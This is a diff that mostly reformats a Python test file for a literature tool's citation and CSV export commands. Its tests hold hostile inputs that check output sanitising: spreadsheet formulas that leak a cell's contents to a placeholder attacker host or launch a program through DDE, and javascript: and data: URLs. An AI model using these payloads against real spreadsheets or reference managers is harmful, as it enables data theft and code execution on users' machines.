@@ -14,14 +14,14 @@ import sys
 import bibtexparser
 import pandas as pd
 import rispy
-from fixtures.graphs import write_graph
-from fixtures.paths import REPO
 from typer.testing import CliRunner
 
+from fixtures.graphs import write_graph
+from fixtures.paths import REPO
 from lyra_core.papers import family_given
 from lyra_resources.store.lyra_store import LyraStore
-from lyra_tools.exports import formats as export
 from lyra_tools.cli import app
+from lyra_tools.exports import formats as export
 from lyra_tools.feedback import apply_feedback
 
 AUTHORS = ["Smith, Jane Q.", "van Beethoven, Ludwig", "Müller, Jörg"]
@@ -38,7 +38,11 @@ def graph_with_authors(tmp_path):
 
 def test_family_given_names():
     assert [family_given(n) for n in ("Jane Q. Smith", "Ludwig van Beethoven", "Smith, John", "WHO")] == [
-        "Smith, Jane Q.", "van Beethoven, Ludwig", "Smith, John", "WHO"]
+        "Smith, Jane Q.",
+        "van Beethoven, Ludwig",
+        "Smith, John",
+        "WHO",
+    ]
     # a group's name is not a person's: it is not turned around
     assert family_given("World Health Organization") == "World Health Organization"
     assert family_given("PROTECT Trial Investigators") == "PROTECT Trial Investigators"
@@ -53,14 +57,20 @@ def test_bibtex_and_ris_round_trip(tmp_path):
         entry = by_title[row.title]
         assert entry.fields_dict.get("doi", None) is None or entry["doi"] == row.doi
         # a group's name is braced, so BibTeX takes it whole
-        assert ([a.removeprefix("{").removesuffix("}") for a in entry["author"].split(" and ")]
-                if "author" in entry.fields_dict else []) == list(row.authors)
+        assert (
+            [a.removeprefix("{").removesuffix("}") for a in entry["author"].split(" and ")]
+            if "author" in entry.fields_dict
+            else []
+        ) == list(row.authors)
     ris = rispy.loads(export.export(store, graph.task_id, "ris"))
     assert [(r["title"], r.get("doi"), r.get("authors", [])) for r in ris] == [
-        (p.title, p.doi, list(p.authors)) for p in papers.sort_values("search_rank").itertuples(index=False)]
+        (p.title, p.doi, list(p.authors)) for p in papers.sort_values("search_rank").itertuples(index=False)
+    ]
     csl = json.loads(export.export(store, graph.task_id, "csl-json"))
     assert csl[0]["author"][1] == {"family": "van Beethoven", "given": "Ludwig"}
-    assert [{"literal": "World Health Organization"}] in [i.get("author") for i in csl]  # a group, not a person
+    assert [{"literal": "World Health Organization"}] in [
+        i.get("author") for i in csl
+    ]  # a group, not a person
     assert csl[0]["issued"] == {"date-parts": [[2019]]} and csl[0]["DOI"] == "10.1001/jama.2019.0001"
 
 
@@ -70,7 +80,9 @@ def test_claims_export_applies_feedback(tmp_path):
     rows = [json.loads(line) for line in export.export(store, graph.task_id, "jsonl").splitlines()]
     assert graph.claims["hip"] not in {r["claim_id"] for r in rows} and len(rows) == 3
     user = next(r for r in rows if r["claim_id"] == graph.claims["user"])
-    assert {e["edge_id"] for e in user["evidence"]} == {graph.edges[("user", p)] for p in ("meta", "whi", "blog")}
+    assert {e["edge_id"] for e in user["evidence"]} == {
+        graph.edges[("user", p)] for p in ("meta", "whi", "blog")
+    }
     table = pd.read_csv(__import__("io").StringIO(export.export(store, graph.task_id, "csv")))
     assert set(table["claim_id"]) == {r["claim_id"] for r in rows}
 
@@ -79,37 +91,66 @@ def test_cli_export_writes_the_file_and_refuses_bad_input(tmp_path):
     store, graph, _ = graph_with_authors(tmp_path)
     runner, home = CliRunner(), str(store.layout.root)
     out = tmp_path / "out" / "refs.bib"
-    refused = runner.invoke(app, ["export", graph.task_id, "--format", "bibtex", "--out", str(out), "--home", home])
+    refused = runner.invoke(
+        app, ["export", graph.task_id, "--format", "bibtex", "--out", str(out), "--home", home]
+    )
     assert refused.exit_code == 1 and "does not exist" in refused.output and not out.parent.exists()
     out.parent.mkdir()  # --out names a file in a folder that exists, as `lyra search --run` does
-    done = runner.invoke(app, ["export", graph.task_id, "--format", "bibtex", "--out", str(out), "--home", home])
+    done = runner.invoke(
+        app, ["export", graph.task_id, "--format", "bibtex", "--out", str(out), "--home", home]
+    )
     assert done.exit_code == 0 and "Smith, Jane Q." in out.read_text()
     html = runner.invoke(app, ["export", graph.task_id, "--format", "html", "--home", home])
     assert html.exit_code == 0 and html.stdout.startswith("<!doctype html>")
-    bad = runner.invoke(app, ["export", graph.task_id, "--format", "docx", "--out", str(tmp_path / "x"), "--home", home])
+    bad = runner.invoke(
+        app, ["export", graph.task_id, "--format", "docx", "--out", str(tmp_path / "x"), "--home", home]
+    )
     assert bad.exit_code == 1 and "unknown --format 'docx'" in bad.output and not (tmp_path / "x").exists()
     missing = runner.invoke(app, ["export", "task_nope", "--format", "ris", "--home", home])
     assert missing.exit_code == 1
 
 
 def test_papers_keep_their_authors_as_family_given(tmp_path):
-    from lyra_resources.corpus.paper_rows import papers_frame
     from lyra_core.papers import PaperRecord, canonicalize
+    from lyra_resources.corpus.paper_rows import papers_frame
 
-    records = [PaperRecord(source="s2", source_id="1", title="Vitamin D and fracture risk in older adults",
-                           doi="10.1/x", authors=["Jane Q. Smith", "Ludwig van Beethoven"]),
-               PaperRecord(source="openalex", source_id="W1", title="Vitamin D and fracture risk in older adults",
-                           doi="10.1/x", authors=["Someone Else"])]
+    records = [
+        PaperRecord(
+            source="s2",
+            source_id="1",
+            title="Vitamin D and fracture risk in older adults",
+            doi="10.1/x",
+            authors=["Jane Q. Smith", "Ludwig van Beethoven"],
+        ),
+        PaperRecord(
+            source="openalex",
+            source_id="W1",
+            title="Vitamin D and fracture risk in older adults",
+            doi="10.1/x",
+            authors=["Someone Else"],
+        ),
+    ]
     frame = papers_frame(canonicalize(records))
     assert list(frame.iloc[0]["authors"]) == ["Smith, Jane Q.", "van Beethoven, Ludwig"]  # the best record's
     store = LyraStore.at(tmp_path / "home")
     task = store.create_task("q")
     store.replace_partition("papers", task.id, frame)
-    assert list(store.read_partition("papers", task.id).iloc[0]["authors"]) == ["Smith, Jane Q.", "van Beethoven, Ludwig"]
+    assert list(store.read_partition("papers", task.id).iloc[0]["authors"]) == [
+        "Smith, Jane Q.",
+        "van Beethoven, Ludwig",
+    ]
 
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "@SUM(1+1)*cmd|' /C calc'!A0",
-            "+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1", "=1+1\n", "Vitamin D = good"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1\n",
+    "Vitamin D = good",
+]
 
 
 def test_csv_cells_that_a_spreadsheet_would_run_are_text(tmp_path):
@@ -144,25 +185,39 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_text(tmp_path):
 def test_reference_exports_carry_only_http_urls(tmp_path):
     """A reference manager turns a record's URL into a link: a script or data URL is left out."""
     store, graph, papers = graph_with_authors(tmp_path)
-    hostile = ["javascript:alert(document.domain)//", " JaVaScRiPt:alert(1)", "data:text/html;base64,PHNjcmlwdD4=",
-               "https://example.org/paper?id=1"]
+    hostile = [
+        "javascript:alert(document.domain)//",
+        " JaVaScRiPt:alert(1)",
+        "data:text/html;base64,PHNjcmlwdD4=",
+        "https://example.org/paper?id=1",
+    ]
     store.replace_partition("papers", graph.task_id, papers.assign(url=hostile))
     bib = bibtexparser.parse_string(export.export(store, graph.task_id, "bibtex"))
     ris = rispy.loads(export.export(store, graph.task_id, "ris"))
     csl = json.loads(export.export(store, graph.task_id, "csl-json"))
-    urls = ([e["url"] for e in bib.entries if "url" in e.fields_dict] + [u for r in ris for u in r.get("urls", [])]
-            + [item["URL"] for item in csl if "URL" in item])
+    urls = (
+        [e["url"] for e in bib.entries if "url" in e.fields_dict]
+        + [u for r in ris for u in r.get("urls", [])]
+        + [item["URL"] for item in csl if "URL" in item]
+    )
     assert urls == ["https://example.org/paper?id=1"] * 3
 
 
 # -- the real `lyra export` on a task whose papers lack fields ---------------------------------------
 
+
 def lyra_export(home, *args: str) -> subprocess.CompletedProcess:
     """``lyra export ARGS --home HOME`` as a process, as a person runs it."""
     env = {**os.environ, "PYTHONPATH": str(REPO)}
     env.pop("LYRA_DEBUG", None)
-    return subprocess.run([sys.executable, "-m", "lyra_tools.cli", "export", *args, "--home", str(home)], env=env,
-                          capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=120)
+    return subprocess.run(
+        [sys.executable, "-m", "lyra_tools.cli", "export", *args, "--home", str(home)],
+        env=env,
+        capture_output=True,
+        text=True,
+        stdin=subprocess.DEVNULL,
+        timeout=120,
+    )
 
 
 def graph_with_bare_papers(tmp_path) -> tuple[LyraStore, object, str, str]:
@@ -172,8 +227,9 @@ def graph_with_bare_papers(tmp_path) -> tuple[LyraStore, object, str, str]:
     meta = papers.index[papers["doi"] == "10.1001/jama.2019.0001"][0]
     papers = papers.astype({"year": "Int64", "search_rank": "Int64"})
     papers.loc[meta, ["year", "doi", "authors"]] = [pd.NA, None, None]
-    bare = pd.DataFrame([{"paper_id": "p_bare", "pmid": "29876543", "sources": ["local:row-7"]}],
-                        columns=papers.columns).astype(papers.dtypes.to_dict())
+    bare = pd.DataFrame(
+        [{"paper_id": "p_bare", "pmid": "29876543", "sources": ["local:row-7"]}], columns=papers.columns
+    ).astype(papers.dtypes.to_dict())
     store.replace_partition("papers", graph.task_id, pd.concat([papers, bare], ignore_index=True))
     return store, graph, papers.loc[meta, "paper_id"], "p_bare"
 
@@ -208,20 +264,33 @@ def test_cli_exports_every_format_when_papers_lack_year_authors_and_doi(tmp_path
             assert text.startswith("<!doctype html>")
     bib = {e["lyra_paper"]: e for e in bibtexparser.parse_string(texts["bibtex"]).entries}
     assert {"year", "author", "doi"}.isdisjoint(bib[meta].fields_dict) and bib[meta]["title"]
-    assert set(bib[bare].fields_dict) == {"pmid", "lyra_paper", "lyra_sources"} and bib[bare]["pmid"] == "29876543"
+    assert (
+        set(bib[bare].fields_dict) == {"pmid", "lyra_paper", "lyra_sources"}
+        and bib[bare]["pmid"] == "29876543"
+    )
     ris = {r["id"]: r for r in rispy.loads(texts["ris"])}
-    assert ris[bare] == {"type_of_reference": "JOUR", "id": bare, "accession_number": "29876543",
-                         "custom2": "local:row-7"}
+    assert ris[bare] == {
+        "type_of_reference": "JOUR",
+        "id": bare,
+        "accession_number": "29876543",
+        "custom2": "local:row-7",
+    }
     csl = {i["id"]: i for i in json.loads(texts["csl-json"])}
-    assert csl[bare] == {"id": bare, "type": "article-journal", "PMID": "29876543",
-                         "custom": {"lyra_sources": ["local:row-7"]}}
+    assert csl[bare] == {
+        "id": bare,
+        "type": "article-journal",
+        "PMID": "29876543",
+        "custom": {"lyra_sources": ["local:row-7"]},
+    }
     assert "issued" not in csl[meta] and "author" not in csl[meta] and "DOI" not in csl[meta]
 
 
 def test_cli_exports_only_the_papers_that_vote_on_a_claim(tmp_path):
     store, graph, meta, bare = graph_with_bare_papers(tmp_path)
     # without the claim it refutes, the nursing-home trial casts no vote (its other edges are neutral)
-    apply_feedback(store, graph.task_id, "claim_reject", {"claim_id": graph.claims["none"], "reason": "vague"})
+    apply_feedback(
+        store, graph.task_id, "claim_reject", {"claim_id": graph.claims["none"], "reason": "vague"}
+    )
     paper_of = store.read_partition("pages", graph.task_id).set_index("page_id")["paper_id"]
     voters = {paper_of[graph.pages[p]] for p in ("meta", "whi", "blog")}
     home = store.layout.root
@@ -230,7 +299,9 @@ def test_cli_exports_only_the_papers_that_vote_on_a_claim(tmp_path):
         assert done.returncode == 0, done.stderr
         assert exported_ids(fmt, done.stdout) == voters, fmt  # meta votes though it lacks year, authors, DOI
         assert meta in voters and bare not in voters
-    refused = lyra_export(home, graph.task_id, "--format", "csv", "--only-evidence", "--out", str(tmp_path / "c.csv"))
+    refused = lyra_export(
+        home, graph.task_id, "--format", "csv", "--only-evidence", "--out", str(tmp_path / "c.csv")
+    )
     assert refused.returncode == 1 and not (tmp_path / "c.csv").exists()
     assert refused.stderr.count("\n") == 1 and "--only-evidence" in refused.stderr
     shown = " ".join(re.sub("[│╭╮╰╯─]", " ", CliRunner().invoke(app, ["export", "--help"]).output).split())
